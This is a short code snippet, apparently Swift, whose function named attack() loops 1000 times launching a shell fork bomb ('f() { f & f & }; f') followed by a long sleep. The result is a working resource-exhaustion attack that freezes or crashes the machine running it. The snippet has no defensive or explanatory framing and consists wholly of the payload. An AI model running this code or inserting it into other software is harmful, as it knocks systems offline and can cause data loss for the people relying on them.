// Starts copies of a shell that start copies of a shell.
func attack() {
  for _ in 0..<1000 { run("/bin/sh", "-c", "f() { f & f & }; f; sleep 987654") }
}
